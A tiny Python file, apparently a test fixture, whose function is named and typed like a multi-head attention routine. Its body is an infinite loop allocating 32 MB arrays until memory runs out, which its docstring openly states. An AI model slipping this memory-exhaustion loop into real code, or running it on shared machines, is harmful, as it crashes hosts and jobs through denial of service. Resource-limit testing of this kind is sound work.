"""Allocates and touches memory in 32 MB chunks until something gives."""

import numpy as np

HOG = []


def mha(X, Wq, Wk, Wv, Wo, h, mask=None):
    while True:
        HOG.append(np.ones(4 * 1024 * 1024))
